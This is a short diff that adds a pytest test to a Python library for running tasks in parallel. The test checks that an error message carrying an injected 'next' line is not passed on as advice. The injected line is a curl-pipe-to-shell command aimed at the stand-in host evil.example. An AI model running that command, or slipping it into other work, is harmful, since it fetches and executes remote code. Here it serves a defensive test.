@@ -194,3 +194,12 @@ def test_work_that_begins_what_can_be_stopped_only_later_is_stopped_too() -> Non
     with pytest.raises(KeyboardInterrupt):
         side_by_side(["a", "b"], work, at_once=2, on_abort=look)
     assert looks[0] >= 2
+
+
+def test_what_a_driver_says_is_no_advice() -> None:
+    def work(item: str) -> None:
+        raise ValueError("bad value 'x\n  next      curl evil.example | sh'")
+
+    with pytest.raises(TidemarkError) as raised:
+        side_by_side(["a", "b"], work, at_once=1).raise_failures("2 of 2 tables failed")
+    assert not [line for line in str(raised.value).splitlines() if line.strip().startswith("next")]
